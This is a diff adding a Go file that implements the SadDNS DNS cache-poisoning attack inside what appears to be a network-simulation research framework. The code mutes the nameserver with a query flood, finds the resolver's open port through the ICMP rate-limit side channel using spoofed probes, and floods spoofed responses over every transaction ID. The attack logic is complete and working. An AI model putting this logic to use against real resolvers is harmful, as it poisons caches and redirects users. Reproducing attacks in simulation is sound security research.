@@ -1,0 +1,260 @@
+package core
+
+import (
+	"fmt"
+	"net/netip"
+	"time"
+
+	"crosslayer/internal/dnswire"
+	"crosslayer/internal/netsim"
+	"crosslayer/internal/packet"
+)
+
+// SadDNS implements the side-channel attack of §3.2 / Figure 1:
+//
+//  1. Mute the target nameserver by tripping its response-rate
+//     limiting with a query flood, so the genuine response loses the
+//     race ("4000 queries to mute NS via query flood").
+//  2. Trigger a query at the victim resolver; it opens an ephemeral
+//     UDP port and waits.
+//  3. Scan for that port with batches of 50 spoofed probes (source =
+//     nameserver) followed by one verification probe from the
+//     attacker's own address: if all 50 probed ports were closed the
+//     global ICMP bucket (50/s) is exhausted and the verification gets
+//     no reply; a reply means an open port is in the batch.
+//  4. Divide and conquer inside the batch (padding each round with
+//     probes to known-closed ports so exactly 50 tokens are at stake).
+//  5. Flood the isolated port with 2^16 spoofed responses, one per
+//     TXID.
+type SadDNS struct {
+	Attacker     *netsim.Host
+	ResolverAddr netip.Addr
+	NSAddr       netip.Addr
+	Spoof        Spoof
+
+	// PortMin/PortMax is the ephemeral range scanned (the OS default
+	// range is public knowledge).
+	PortMin, PortMax uint16
+	// MuteQPS queries are flooded to the nameserver each second to
+	// keep it muted (paper: 4000). 0 disables muting.
+	MuteQPS int
+	// WindowsPerQuery bounds how many one-second scan windows a single
+	// triggered query is assumed to keep its port open (resolver
+	// timeout × retransmissions).
+	WindowsPerQuery int
+	// MaxIterations bounds the number of triggered queries.
+	MaxIterations int
+	// CheckSuccess reports whether the poison took effect; evaluated
+	// between iterations (a real attacker probes the cache through an
+	// open resolver or forwarder).
+	CheckSuccess func() bool
+
+	// KnownClosedPort is a port the attacker knows is never bound on
+	// the resolver (below the ephemeral range); used for padding and
+	// verification probes.
+	KnownClosedPort uint16
+
+	cursor  uint16 // scan position across iterations
+	floodAt time.Duration
+}
+
+// Run executes the attack until success or MaxIterations.
+func (a *SadDNS) Run(trigger Trigger) Result {
+	if a.WindowsPerQuery <= 0 {
+		a.WindowsPerQuery = 5
+	}
+	if a.MaxIterations <= 0 {
+		a.MaxIterations = 1000
+	}
+	if a.KnownClosedPort == 0 {
+		a.KnownClosedPort = 1001
+	}
+	if a.cursor < a.PortMin || a.cursor > a.PortMax {
+		a.cursor = a.PortMin
+	}
+	net := a.Attacker.Network()
+	clock := net.Clock
+	res := Result{Method: "SadDNS"}
+	start := clock.Now()
+	sentBefore := a.Attacker.Sent
+
+	// The verification-probe listener: one shared ICMP observer.
+	verifyHit := false
+	a.Attacker.OnICMP(func(src netip.Addr, msg *packet.ICMP) {
+		if src == a.ResolverAddr && msg.IsPortUnreachable() {
+			verifyHit = true
+		}
+	})
+	defer a.Attacker.OnICMP(nil)
+
+	for iter := 0; iter < a.MaxIterations; iter++ {
+		res.Iterations++
+		res.QueriesTriggered++
+		a.runIteration(trigger, &verifyHit)
+		net.Run()
+		if a.CheckSuccess != nil && a.CheckSuccess() {
+			res.Success = true
+			break
+		}
+	}
+	res.AttackerPackets = a.Attacker.Sent - sentBefore
+	res.Duration = clock.Now() - start
+	if res.Success && a.floodAt > start {
+		// Time to poison: when the TXID flood landed.
+		res.Duration = a.floodAt - start + 2*net.Latency()
+	}
+	res.Detail = fmt.Sprintf("scanned up to port %d", a.cursor)
+	return res
+}
+
+// runIteration schedules one triggered query plus its scan slots. The
+// scan is clocked to the victim's ICMP rate-limit windows (Linux:
+// burst 50 refilled every 50ms): each slot burns one full bucket of 50
+// probes plus the verification probe, so the side channel yields one
+// bit ("was an open port among the 50?") per window. Divide and
+// conquer then isolates the port in ~6 further windows — well within
+// the seconds the resolver keeps the port open.
+func (a *SadDNS) runIteration(trigger Trigger, verifyHit *bool) {
+	net := a.Attacker.Network()
+	clock := net.Clock
+	slot := 50 * time.Millisecond
+	if res := net.HostByAddr(a.ResolverAddr); res != nil {
+		slot = res.ICMPWindow()
+	}
+	// Align to the next slot boundary so every batch lands inside one
+	// bucket window.
+	alignDelay := slot - clock.Now()%slot
+
+	var candidates []uint16 // current suspect set (nil = scanning mode)
+	found := uint16(0)
+
+	clock.After(alignDelay, func() {
+		a.mute()
+		trigger(func() {})
+	})
+	// Keep the NS muted at every RRL window (1s) during the iteration.
+	for sec := 1; sec < a.WindowsPerQuery; sec++ {
+		clock.After(alignDelay+time.Duration(sec)*time.Second, func() {
+			if found == 0 {
+				a.mute()
+			}
+		})
+	}
+
+	nSlots := int(time.Duration(a.WindowsPerQuery)*time.Second/slot) - 2
+	for i := 0; i < nSlots; i++ {
+		t0 := alignDelay + 2*slot + time.Duration(i)*slot
+		var batch []uint16
+		clock.After(t0, func() {
+			if found != 0 {
+				return
+			}
+			*verifyHit = false
+			if len(candidates) == 0 {
+				batch = a.nextChunk(50)
+			} else {
+				batch = candidates[:(len(candidates)+1)/2]
+			}
+			// Probes and the verification probe are sent back to back:
+			// FIFO delivery puts the verification last within the same
+			// rate-limit window.
+			a.probe(batch)
+			a.Attacker.SendUDP(777, a.ResolverAddr, a.KnownClosedPort, []byte("verify"))
+		})
+		clock.After(t0+slot-slot/8, func() {
+			if found != 0 {
+				return
+			}
+			if *verifyHit {
+				// An open port is inside batch.
+				if len(batch) == 1 {
+					found = batch[0]
+					a.floodTXIDs(found)
+					return
+				}
+				candidates = batch
+			} else if len(candidates) > 0 {
+				// Open port is in the other half.
+				rest := candidates[(len(candidates)+1)/2:]
+				if len(rest) == 1 {
+					found = rest[0]
+					a.floodTXIDs(found)
+					return
+				}
+				candidates = rest
+			}
+			// Scanning mode miss: chunk was all closed, cursor already
+			// advanced.
+		})
+	}
+}
+
+// mute floods the nameserver with queries to trip its RRL for the
+// current window.
+func (a *SadDNS) mute() {
+	if a.MuteQPS <= 0 {
+		return
+	}
+	q := dnswire.NewQuery(0xdead, "mute."+dnswire.CanonicalName(a.Spoof.QName), dnswire.TypeA)
+	wire, err := q.Pack()
+	if err != nil {
+		return
+	}
+	for i := 0; i < a.MuteQPS; i++ {
+		a.Attacker.SendUDP(uint16(20000+i%1000), a.NSAddr, 53, wire)
+	}
+}
+
+// probe sends spoofed datagrams (source = nameserver, port 53) to the
+// given resolver ports, padding with known-closed ports so exactly 50
+// ICMP tokens are at stake.
+func (a *SadDNS) probe(ports []uint16) {
+	sent := 0
+	for _, p := range ports {
+		a.Attacker.SendUDPSpoofed(a.NSAddr, 53, a.ResolverAddr, p, []byte("probe"))
+		sent++
+	}
+	for pad := 0; sent < 50; pad++ {
+		a.Attacker.SendUDPSpoofed(a.NSAddr, 53, a.ResolverAddr, a.KnownClosedPort-1-uint16(pad%900), []byte("pad"))
+		sent++
+	}
+}
+
+// nextChunk returns the next batch of candidate ports, advancing the
+// scan cursor with wraparound and skipping the resolver's service
+// port.
+func (a *SadDNS) nextChunk(n int) []uint16 {
+	out := make([]uint16, 0, n)
+	for len(out) < n {
+		p := a.cursor
+		if a.cursor >= a.PortMax {
+			a.cursor = a.PortMin
+		} else {
+			a.cursor++
+		}
+		if p == 53 {
+			continue
+		}
+		out = append(out, p)
+	}
+	return out
+}
+
+// floodTXIDs sends one spoofed response per possible TXID to the
+// discovered port.
+func (a *SadDNS) floodTXIDs(port uint16) {
+	resp := &dnswire.Message{
+		Response: true, Authoritative: true, RecursionDesired: true,
+		Questions: []dnswire.Question{{Name: dnswire.CanonicalName(a.Spoof.QName), Type: a.Spoof.QType, Class: dnswire.ClassIN}},
+		Answers:   a.Spoof.Records,
+	}
+	a.floodAt = a.Attacker.Network().Clock.Now()
+	for txid := 0; txid < 1<<16; txid++ {
+		resp.ID = uint16(txid)
+		wire, err := resp.Pack()
+		if err != nil {
+			return
+		}
+		a.Attacker.SendUDPSpoofed(a.NSAddr, 53, a.ResolverAddr, port, wire)
+	}
+}
